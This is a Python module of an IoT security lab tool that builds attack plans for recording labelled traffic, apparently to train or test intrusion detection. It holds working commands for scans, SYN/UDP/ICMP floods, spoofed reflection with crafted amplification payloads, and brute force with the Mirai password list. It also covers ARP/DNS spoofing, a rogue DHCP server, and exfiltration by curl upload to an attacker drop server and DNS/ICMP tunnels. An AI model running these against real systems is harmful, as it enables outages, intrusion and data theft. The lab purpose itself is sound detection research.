"""Attack plans of ``iotwatch lab record``: which real tool runs, against which lab host, as which class.

:func:`plan` turns a family (recon, dos, bruteforce, spoofing, exfiltration) into :class:`Step` s.
Each step is one or more commands run together in the attacker namespace, every one wrapped in
``timeout`` by the recorder and bounded in count as well (port lists, ``hping3 -c``, password
lists, query files). Targets are always lab hosts (:class:`LabContext`); nothing here names any
other address. Exfiltration goes to hosts only the attacker uses: the LAN's unseen ``sink`` and the
``drop`` server outside the LAN (an HTTPS upload endpoint in the lab's "internet" range that no
benign device talks to). :data:`TOOLS` maps every binary to the Debian package that provides it, so a
missing tool is reported with the package to install.
"""
from __future__ import annotations

import random
import sys
from dataclasses import dataclass, field
from pathlib import Path

from .services import STARVE_OUI

FAMILIES = ("recon", "dos", "bruteforce", "spoofing", "exfiltration")

#: binary -> Debian package
TOOLS = {
    "ip": "iproute2", "ethtool": "ethtool", "ping": "iputils-ping", "sysctl": "procps", "timeout": "coreutils",
    "dumpcap": "tshark", "tshark": "tshark",
    "mosquitto": "mosquitto", "mosquitto_pub": "mosquitto-clients", "mosquitto_sub": "mosquitto-clients",
    "mosquitto_passwd": "mosquitto", "dnsmasq": "dnsmasq-base", "dropbear": "dropbear-bin",
    "dropbearkey": "dropbear-bin", "dig": "bind9-dnsutils", "curl": "curl",
    "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "hydra": "hydra",
    "arpspoof": "dsniff", "dnsspoof": "dsniff", "iodine": "iodine", "iodined": "iodine",
    "nping": "nmap", "openssl": "openssl", "udhcpc": "udhcpc", "sshd": "openssh-server", "ssh-keygen": "openssh-client",
    "medusa": "medusa", "ncrack": "ncrack", "snmpd": "snmpd", "chronyd": "chrony",
    "arp-scan": "arp-scan", "ab": "apache2-utils", "slowhttptest": "slowhttptest", "patator": "patator",
    "ettercap": "ettercap-text-only", "arping": "arping", "ptunnel-ng": "ptunnel-ng",
    "dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp",
}

#: tools each family needs (the lab itself always needs the first group)
BASE_TOOLS = ("ip", "ethtool", "ping", "sysctl", "timeout", "dumpcap", "tshark", "mosquitto", "mosquitto_pub",
              "mosquitto_sub", "mosquitto_passwd", "dnsmasq", "dropbear", "dropbearkey", "dig", "curl", "openssl",
              "sshd", "ssh-keygen", "snmpd", "chronyd", "udhcpc")
FAMILY_TOOLS = {
    "recon": ("nmap", "masscan", "arp-scan", "hping3"),
    "dos": ("hping3", "nping", "ab", "slowhttptest"),
    "bruteforce": ("hydra", "mosquitto_pub", "medusa", "ncrack", "patator"),
    "spoofing": ("arpspoof", "dnsspoof", "ettercap", "arping", "dnsmasq"),
    "exfiltration": ("dig", "curl", "hping3", "iodine", "iodined", "ptunnel-ng", "dns2tcpc", "dns2tcpd"),
}
#: tools whose steps are dropped (with a note) when they are missing; the rest are required
OPTIONAL = ("masscan", "iodine", "iodined", "arp-scan", "ab", "slowhttptest", "medusa", "ncrack", "patator",
            "ettercap", "arping", "ptunnel-ng", "dns2tcpc", "dns2tcpd")

#: default credentials of the Mirai family, the classic IoT guess list
MIRAI_PASSWORDS = ("admin", "root", "12345", "123456", "xc3511", "vizxv", "888888", "xmhdipc", "default",
                   "juantech", "54321", "support", "password", "1234", "12345678", "user", "guest", "pass",
                   "admin1234", "1111", "smcadmin", "666666", "klv123", "Zte521", "hi3518", "jvbzd",
                   "anko", "zlxx.", "7ujMko0vizxv", "7ujMko0admin", "system", "ikwb", "dreambox", "realtek",
                   "00000000", "1111111", "meinsm", "tech", "ubnt", "fucker", "changeme", "service")
USERS = ("admin", "root", "support", "user", "guest")


@dataclass
class Step:
    """One attack window: commands run concurrently in the attacker namespace."""

    name: str
    label: str
    commands: list[list[str]]
    weight: float = 1.0          # share of the family's time budget
    min_seconds: float = 4.0
    victim_ip: str = ""          # spoofed-source flood: see labelling.py
    dns_suffix: str = ""         # DNS tunnel through the resolver: see labelling.py
    needs: tuple[str, ...] = ()  # tools used by services helpers (besides the commands' own binaries)
    reflectors: list[str] = field(default_factory=list)  # reflection: "ip:port" (see labelling.py)
    spoof_port: int = 0          # reflection: the forged requests' UDP source port
    role: str = "attacker"       # namespace the commands run in (benign case steps run on devices)
    mac_prefix: str = ""         # forged client MACs (DHCP starvation): see labelling.py

    def tools(self) -> set[str]:
        return {Path(c[0]).name for c in self.commands if c[0] != sys.executable} | set(self.needs)


@dataclass
class LabContext:
    """What the plans may target: lab hosts (role -> ip / mac) and files in the lab workdir."""

    ips: dict[str, str]
    macs: dict[str, str]
    workdir: Path
    tunnel_zone: str = "t.lab"
    iodine_zone: str = "i.lab"
    iodine_peer: str = "10.77.1.1"
    creds: dict[str, str] = field(default_factory=dict)

    def ip(self, role: str) -> str:
        return self.ips[role]


def password_list(rng: random.Random, n: int) -> list[str]:
    words = list(MIRAI_PASSWORDS)
    rng.shuffle(words)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    while len(words) < n:
        words.append("".join(rng.choice(alphabet) for _ in range(rng.randint(5, 10))))
    return words[:n]


def _write(path: Path, lines: list[str]) -> str:
    path.write_text("\n".join(lines) + "\n")
    return str(path)


def helper(*args: str) -> list[str]:
    """argv of a services helper (server, benign driver, bounded attack loop), run with this interpreter."""
    return [sys.executable, "-m", "iotwatch.captures.lab.services", *args]


def plan(family: str, ctx: LabContext, rng: random.Random) -> list[Step]:
    """The steps of one family, with victims and sizes drawn from ``rng``."""
    return {"recon": _recon, "dos": _dos, "bruteforce": _bruteforce,
            "spoofing": _spoofing, "exfiltration": _exfiltration}[family](ctx, rng)


def _nmap(*args: str) -> list[str]:
    return ["nmap", "-n", "-Pn", "--max-retries", "1", *args]


def _recon(ctx: LabContext, rng: random.Random) -> list[Step]:
    devices = ["hub", "cam", "sensor", "nas", "gw", "plug"]
    v = rng.sample(devices, 6)
    subnet = ctx.ips["gw"].rsplit(".", 1)[0] + ".0/24"
    few = "22,23,80,443,1883"
    steps = [
        # host discovery: ARP (nmap, arp-scan) and ICMP sweeps
        Step("nmap -sn (ARP host discovery)", "recon", [["nmap", "-n", "-sn", "-T4", "--max-retries", "1", subnet]]),
        Step("nmap -sn -PE --send-ip (ICMP sweep)", "recon",
             [["nmap", "-n", "-sn", "-PE", "--send-ip", "-T4", "--max-retries", "1", subnet]]),
        Step("arp-scan the subnet", "recon", [["arp-scan", "-I", "eth0", "-r", "1", "-i", "2", subnet]]),
        # port scans: every kind, every timing (slow timings on short port lists, cut by the window)
        Step("nmap -sS -T4", "recon", [_nmap("-sS", "-T4", "--top-ports", str(rng.choice([300, 500, 1000])), ctx.ip(v[0]))],
             weight=1.5),
        Step("nmap -sS -T5 --min-rate 10000", "recon",
             [_nmap("-sS", "-T5", "--min-rate", "10000", "-p", f"1-{rng.choice([5000, 10000])}", ctx.ip(v[1]))]),
        Step("nmap -sT -T3", "recon", [_nmap("-sT", "-T3", "--top-ports", str(rng.choice([100, 200])), ctx.ip(v[2]))]),
        Step("nmap -sA -T4", "recon", [_nmap("-sA", "-T4", "--top-ports", "200", ctx.ip(v[3]))]),
        Step("nmap -sF -T4", "recon", [_nmap("-sF", "-T4", "--top-ports", "200", ctx.ip(v[4]))]),
        Step("nmap -sX -T4", "recon", [_nmap("-sX", "-T4", "--top-ports", "200", ctx.ip(v[5]))]),
        Step("nmap -sN -T4", "recon", [_nmap("-sN", "-T4", "--top-ports", "200", ctx.ip(v[0]))]),
        Step("nmap -sU -T4", "recon", [_nmap("-sU", "-T4", "--top-ports", str(rng.choice([20, 30, 50])), ctx.ip(v[1]))],
             weight=2.0),
        Step("nmap -sV", "recon", [_nmap("-sV", "--version-light", "-T4", "-p", "21,22,23,53,80,161,1883,5683,8080",
                                         ctx.ip(v[2]))], weight=2.5, min_seconds=15.0),
        Step("nmap -sS -T2 (polite)", "recon", [_nmap("-sS", "-T2", "-p", few, ctx.ip(v[3]))], min_seconds=6.0),
        Step("nmap -sS -T1 (sneaky, cut by the window)", "recon", [_nmap("-sS", "-T1", "-p", few, ctx.ip(v[4]))],
             min_seconds=35.0, weight=0.5),
        # -T0 waits 5 minutes between probes: with its own delay no window would see a packet
        Step("nmap -sS -T0 --scan-delay 8s (paranoid timing, shorter delay)", "recon",
             [_nmap("-sS", "-T0", "--scan-delay", "8s", "-p", "22,80,443", ctx.ip(v[5]))], min_seconds=26.0, weight=0.2),
        Step("masscan 300-500 pkt/s", "recon",
             [["masscan", ctx.ip(v[1]), "-p", f"1-{rng.choice([2000, 3000])}", "--rate", str(rng.choice([300, 500])),
               "-e", "eth0", "--adapter-ip", ctx.ip("attacker"), "--router-mac", ctx.macs[v[1]], "--wait", "1"]],
             weight=1.5),
        # --rate above 10k: on a busy 2-core machine masscan's limiter fell to ~4.7k/s at --rate 10000
        Step("masscan fast (--rate 20000-30000)", "recon",
             [["masscan", ctx.ip(v[2]), "-p", f"1-{rng.choice([10000, 20000])}", "--rate", str(rng.choice([20000, 30000])),
               "-e", "eth0", "--adapter-ip", ctx.ip("attacker"), "--router-mac", ctx.macs[v[2]], "--wait", "1"]]),
        Step("hping3 --scan (SYN)", "recon",
             [["hping3", "-I", "eth0", "-S", "--scan", f"1-{rng.choice([500, 1000])}", ctx.ip(v[3])]]),
    ]
    rng.shuffle(steps)
    return steps


def _hping(ctx: LabContext, *args: str) -> list[str]:
    return ["hping3", "-I", "eth0", "-q", *args]


def _dos(ctx: LabContext, rng: random.Random) -> list[Step]:
    v = {k: ctx.ip(k) for k in ("hub", "cam", "sensor", "gw", "nas", "user")}
    n = rng.choice([2000, 3000, 4000])
    gap = f"u{rng.choice([500, 1000, 2000])}"  # 500-2000 packets/s: each flood lasts 1-8 s
    victim = rng.choice(["cam", "nas", "user"])
    port = rng.randrange(20000, 60000)
    steps = [
        Step("hping3 SYN flood", "dos", [_hping(ctx, "-S", "-p", "80", "-c", str(n), "-i", gap, v["cam"])]),
        Step("nping SYN flood 10k pkt/s", "dos",
             [["nping", "--tcp", "--flags", "syn", "-p", rng.choice(["80", "22", "1883"]), "--rate", "10000",
               "-c", str(rng.choice([8000, 15000])), "-N", "-H", "-e", "eth0", v[rng.choice(["hub", "nas", "gw"])]]]),
        Step("hping3 SYN flood --rand-source", "dos",
             [_hping(ctx, "-S", "-p", "1883", "--rand-source", "-c", str(n), "-i", gap, v["hub"])],
             victim_ip=v["hub"]),
        Step("hping3 UDP flood", "dos",
             [_hping(ctx, "-2", "-p", "5683", "-d", str(rng.choice([32, 64, 128])), "-c", str(n), "-i", gap, v["sensor"])]),
        Step("hping3 ICMP flood", "dos",
             [_hping(ctx, "-1", "-d", str(rng.choice([56, 120, 512])), "-c", str(n), "-i", gap, v["gw"])]),
        Step("ab HTTP flood", "dos",
             [["ab", "-q", "-n", str(rng.choice([3000, 5000])), "-c", str(rng.choice([10, 20, 50])), "-s", "5",
               f"http://{v['cam']}/"]]),
        Step("slowhttptest slowloris", "dos",
             [["slowhttptest", "-H", "-c", str(rng.choice([150, 250])), "-r", "50", "-i", "5", "-l", "20", "-x", "24",
               "-p", "3", "-u", f"http://{v['gw']}/"]], min_seconds=15.0),
        reflection_step(ctx, victim, {"dns": "gw", "ntp": "gw"}, count=rng.choice([600, 1000]),
                        gap_us=rng.choice([1000, 2000]), spoof_port=port),
        reflection_step(ctx, victim, {"snmp": "hub", "ssdp": "plug", "coap": "sensor"}, count=rng.choice([400, 700]),
                        gap_us=rng.choice([1000, 2000]), spoof_port=port + 1),
        Step("DHCP starvation (bounded DISCOVER loop, random MACs)", "dos",
             [helper("dhcp-starve", "--count", str(rng.choice([200, 300])), "--pause", "0.01",
                     "--seed", str(rng.getrandbits(32)))], mac_prefix=STARVE_OUI),
    ]
    rng.shuffle(steps)
    return steps


def _bruteforce(ctx: LabContext, rng: random.Random) -> list[Step]:
    wd = ctx.workdir
    n = rng.choice([60, 80, 120])
    pw = _write(wd / "passwords.txt", password_list(rng, n))
    pw_short = _write(wd / "passwords-short.txt", password_list(rng, 25))
    users = _write(wd / "users.txt", list(USERS[:3]))
    hydra = ["hydra", "-I", "-q", "-t", str(rng.choice([2, 4])), "-w", "5"]
    u = rng.choice(USERS)
    ssh_hosts = {"dropbear": ctx.ip("nas"), "openssh": ctx.ip("hub")}
    steps = [
        Step("hydra telnet", "bruteforce", [hydra + ["-l", u, "-P", pw, f"telnet://{ctx.ip('cam')}"]], weight=1.5),
        Step("medusa telnet", "bruteforce", [["medusa", "-h", ctx.ip("cam"), "-u", u, "-P", pw, "-M", "telnet", "-t", "2"]]),
        Step("hydra ssh (dropbear)", "bruteforce", [hydra + ["-l", u, "-P", pw, f"ssh://{ssh_hosts['dropbear']}"]]),
        Step("hydra ssh (OpenSSH)", "bruteforce", [hydra + ["-l", "root", "-P", pw, f"ssh://{ssh_hosts['openssh']}"]]),
        Step("medusa ssh", "bruteforce",
             [["medusa", "-h", ssh_hosts["openssh"], "-U", users, "-P", pw_short, "-M", "ssh", "-t", "3"]]),
        Step("patator ssh_login", "bruteforce",
             [["patator", "ssh_login", f"host={ssh_hosts['openssh']}", "user=admin", "password=FILE0", f"0={pw_short}",
               "-t", "2", "--max-retries", "0", "-x", "ignore:mesg=Authentication failed."]]),
    ]
    for t in rng.sample(["-T2", "-T3", "-T4", "-T5"], 3):
        steps.append(Step(f"ncrack ssh {t}", "bruteforce",
                          [["ncrack", t, "--user", rng.choice(USERS), "-P", pw_short, f"ssh://{ssh_hosts['openssh']}"]],
                          min_seconds=20.0 if t == "-T2" else 6.0))
    steps += [
        Step("hydra ftp", "bruteforce", [hydra + ["-L", users, "-P", pw_short, f"ftp://{ctx.ip('nas')}"]]),
        Step("ncrack ftp", "bruteforce", [["ncrack", "-T4", "--user", "admin", "-P", pw_short, f"ftp://{ctx.ip('nas')}"]]),
        Step("hydra http-get basic auth", "bruteforce", [hydra + ["-l", "admin", "-P", pw, f"http-get://{ctx.ip('gw')}/admin"]]),
        Step("medusa http basic auth", "bruteforce",
             [["medusa", "-h", ctx.ip("gw"), "-u", "admin", "-P", pw, "-M", "http", "-m", "DIR:/admin", "-t", "3"]]),
        Step("mosquitto_pub login guessing", "bruteforce",
             [helper("guess-mqtt", "--host", ctx.ip("hub"), "--user", rng.choice(USERS), "--passwords", pw,
                     "--max", str(n), "--pause", str(rng.choice([0.05, 0.1, 0.2])))], needs=("mosquitto_pub",)),
        Step("ncrack mqtt", "bruteforce", [["ncrack", "-T4", "--user", "sensor", "-P", pw_short, f"mqtt://{ctx.ip('hub')}"]]),
    ]
    rng.shuffle(steps)
    return steps


def _spoofing(ctx: LabContext, rng: random.Random) -> list[Step]:
    a, b = rng.sample(["sensor", "cam", "user"], 2)  # MQTT clients of the broker
    hosts = _write(ctx.workdir / "spoof.hosts", [f"{ctx.ip('attacker')} *.lab", f"{ctx.ip('attacker')} broker.lab"])
    steps = [
        Step("arpspoof every device <-> gateway", "spoofing",
             [["arpspoof", "-i", "eth0", *[x for r in ("hub", "cam", "sensor", "nas", "user") for x in ("-t", ctx.ip(r))],
               "-r", ctx.ip("gw")]], weight=1.0, min_seconds=8.0),
        Step("arpspoof MITM devices <-> MQTT broker", "spoofing",
             [["arpspoof", "-i", "eth0", "-t", ctx.ip(a), "-t", ctx.ip(b), "-r", ctx.ip("hub")]],
             weight=1.0, min_seconds=8.0),
        Step("arpspoof + dnsspoof (phone's DNS)", "spoofing",
             [["arpspoof", "-i", "eth0", "-t", ctx.ip("user"), ctx.ip("gw")],
              ["dnsspoof", "-i", "eth0", "-f", hosts, "udp", "dst", "port", "53"]], weight=1.0, min_seconds=10.0),
        Step("arpspoof devices <-> cloud address (MITM of their uploads)", "spoofing",
             [["arpspoof", "-i", "eth0", "-t", ctx.ip("cam"), "-t", ctx.ip("nas"), "-r",
               ctx.ips.get("cloud", ctx.ip("gw"))]], min_seconds=20.0),
        Step("ettercap ARP MITM (text mode)", "spoofing",
             [["ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{ctx.ip('gw')}//", f"/{ctx.ip(a)}//"]],
             min_seconds=12.0),
        Step("arping gratuitous ARP claiming the gateway", "spoofing",
             [["arping", "-U", "-i", "eth0", "-S", ctx.ip("gw"), "-c", str(rng.choice([10, 20])), "-W", "0.5",
               ctx.ip("gw")]], min_seconds=12.0),
        Step("rogue DHCP server (dnsmasq on the attacker) + a device renewing", "spoofing",
             [["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", "--port=0",
               f"--listen-address={ctx.ip('attacker')}", "--user=root", f"--pid-file={ctx.workdir / 'rogue.pid'}",
               "--dhcp-range=10.77.0.150,10.77.0.180,255.255.255.0,5m", f"--dhcp-option=3,{ctx.ip('attacker')}",
               f"--dhcp-option=6,{ctx.ip('attacker')}", f"--dhcp-leasefile={ctx.workdir / 'rogue.leases'}"]],
             min_seconds=25.0),   # the plug's benign driver renews its lease every ~10-20 s
    ]
    rng.shuffle(steps)
    return steps


def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
    wd = ctx.workdir
    loot = wd / "loot.bin"
    loot.write_bytes(rng.randbytes(rng.choice([4, 6, 8]) * 1024 * 1024))
    small = wd / "loot-small.bin"
    small.write_bytes(rng.randbytes(200_000))
    sink = ctx.ip("sink")

    def dig(qtype: str, n: int) -> list[str]:
        return helper("dig-tunnel", "--server", ctx.ip("gw"), "--zone", ctx.tunnel_zone, "--qtype", qtype,
                      "--queries", str(n), "--batch", str(rng.choice([5, 10, 20])), "--pause", str(rng.choice([0.2, 0.4])),
                      "--seed", str(rng.getrandbits(32)))

    steps = [
        Step("DNS tunnel (dig TXT, base32 labels via the lab resolver)", "exfiltration",
             [dig("TXT", rng.choice([250, 350]))], weight=1.5, dns_suffix=ctx.tunnel_zone, needs=("dig",)),
        Step("DNS tunnel (dig A, base32 labels via the lab resolver)", "exfiltration",
             [dig("A", rng.choice([150, 200]))], dns_suffix=ctx.tunnel_zone, needs=("dig",)),
        Step("iodine DNS tunnel via the lab resolver", "exfiltration",
             [helper("iodine-exfil", "--resolver", ctx.ip("gw"), "--zone", ctx.iodine_zone, "--password",
                     ctx.creds.get("iodine", "iodine"), "--peer", ctx.iodine_peer, "--pings", str(rng.choice([30, 50])),
                     "--size", str(rng.choice([300, 600])), "--qtype", rng.choice(["NULL", "TXT"]))],
             weight=2.0, min_seconds=25.0, dns_suffix=ctx.iodine_zone,
             needs=("iodine", "ping")),
        Step("bulk HTTP upload to an unseen host", "exfiltration",
             [["curl", "-s", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2])}M", "-m", "30",
               "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{loot}",
               f"http://{sink}:8080/upload"]], weight=1.5),
        # to the attacker's own drop server: the lab's cloud (203.0.113.10) is where the NAS backs up
        # every ~40 s with the same curl, and a POST there is not separable from a backup by behaviour
        Step("HTTPS POST exfiltration to the attacker's drop server", "exfiltration",
             [["curl", "-sk", "-o", "/dev/null", "--limit-rate", f"{rng.choice([1, 2, 4])}M", "-m", "30",
               "--data-binary", f"@{loot}", f"https://{ctx.ip('drop')}/upload"]], weight=1.5),
        Step("ICMP tunnel (hping3 -E payload)", "exfiltration",
             [_hping(ctx, "-1", "-E", str(small), "-d", "1000", "-c", "200", "-i", "u20000", sink)]),
        Step("dns2tcp TCP-over-DNS tunnel via the lab resolver (HTTP upload through it)", "exfiltration",
             [helper("dns2tcp-exfil", "--resolver", ctx.ip("gw"), "--zone", "d.lab", "--key",
                     ctx.creds.get("dns2tcp", "dns2tcp"), "--file", str(small), "--qtype", rng.choice(["TXT", "KEY"]))],
             min_seconds=20.0, dns_suffix="d.lab", needs=("dns2tcpc", "curl")),
        Step("ICMP tunnel (ptunnel-ng, HTTP upload through it)", "exfiltration",
             [helper("ptunnel-exfil", "--proxy", sink, "--file", str(small), "--dest", sink, "--dest-port", "8080")],
             min_seconds=12.0, needs=("ptunnel-ng", "curl")),
    ]
    rng.shuffle(steps)
    return steps


# --------------------------------------------------------------------------------------------------
# request payloads for reflection (sent by hping3 -2 -E FILE with the victim's address as source)
# --------------------------------------------------------------------------------------------------
def _dns_name(name: str) -> bytes:
    return b"".join(bytes([len(x)]) + x.encode() for x in name.strip(".").split(".")) + b"\0"


def dns_query_payload(name: str, qtype: int = 16, edns_size: int = 4096, qid: int = 0x1d2f) -> bytes:
    """A recursive DNS query with an EDNS0 OPT record (large answers over UDP, as amplifiers use)."""
    header = qid.to_bytes(2, "big") + b"\x01\x00" + (1).to_bytes(2, "big") + b"\0\0\0\0" + (1).to_bytes(2, "big")
    opt = b"\0" + (41).to_bytes(2, "big") + edns_size.to_bytes(2, "big") + b"\0\0\0\0\0\0"
    return header + _dns_name(name) + qtype.to_bytes(2, "big") + b"\x00\x01" + opt


def _ber(tag: int, body: bytes) -> bytes:
    n = len(body)
    length = bytes([n]) if n < 128 else (bytes([0x81, n]) if n < 256 else bytes([0x82]) + n.to_bytes(2, "big"))
    return bytes([tag]) + length + body


def _ber_int(v: int) -> bytes:
    return _ber(0x02, v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big"))


def _ber_oid(oid: str) -> bytes:
    parts = [int(x) for x in oid.split(".")]
    out = bytearray([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7F]
        while p > 0x7F:
            p >>= 7
            chunk.append(0x80 | (p & 0x7F))
        out += bytes(reversed(chunk))
    return _ber(0x06, bytes(out))


def snmp_getbulk_payload(community: str = "public", oid: str = "1.3.6.1.2.1", max_repetitions: int = 40,
                         request_id: int = 0x4a1b) -> bytes:
    """An SNMPv2c GetBulkRequest (the classic SNMP amplification request)."""
    varbind = _ber(0x30, _ber(0x30, _ber_oid(oid) + b"\x05\x00"))
    pdu = _ber(0xA5, _ber_int(request_id) + _ber_int(0) + _ber_int(max_repetitions) + varbind)
    return _ber(0x30, _ber_int(1) + _ber(0x04, community.encode()) + pdu)


def ntp_client_payload() -> bytes:
    """An NTPv4 client request (mode 3): a server answers with 48 bytes to the forged source."""
    return bytes([0x23, 0, 6, 0xEC]) + bytes(44)


def ssdp_msearch_payload() -> bytes:
    return (b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\n'
            b"ST: ssdp:all\r\n\r\n")


def coap_discover_payload() -> bytes:
    """CoAP CON GET /.well-known/core."""
    return bytes([0x40, 0x01, 0x7A, 0x11]) + bytes([0xBB]) + b".well-known" + bytes([0x04]) + b"core"


#: reflector kind -> (UDP service port, payload builder)
REFLECTION_PAYLOADS = {
    "dns": (53, lambda: dns_query_payload("big.lab")),
    "ntp": (123, ntp_client_payload),
    "snmp": (161, snmp_getbulk_payload),
    "ssdp": (1900, ssdp_msearch_payload),
    "coap": (5683, coap_discover_payload),
}


def reflection_step(ctx: LabContext, victim: str, reflectors: dict[str, str], count: int, gap_us: int,
                    spoof_port: int) -> Step:
    """hping3 -2 -a VICTIM -s PORT -k -p SVC -E payload: forged requests to each real reflector in the
    lab, concurrently; the reflectors answer the victim. ``reflectors``: kind -> reflector role."""
    cmds, refl = [], []
    for kind, role in reflectors.items():
        port, build = REFLECTION_PAYLOADS[kind]
        data = build()
        path = ctx.workdir / f"reflect-{kind}.bin"
        path.write_bytes(data)
        cmds.append(["hping3", "-I", "eth0", "-q", "-2", "-a", ctx.ip(victim), "-s", str(spoof_port), "-k",
                     "-p", str(port), "-E", str(path), "-d", str(len(data)), "-c", str(count), "-i", f"u{gap_us}",
                     ctx.ip(role)])
        refl.append(f"{ctx.ip(role)}:{port}")
    return Step(f"reflection via {'/'.join(reflectors)} at {victim} (hping3 spoofed source)", "dos", cmds,
                victim_ip=ctx.ip(victim), reflectors=refl, spoof_port=spoof_port)
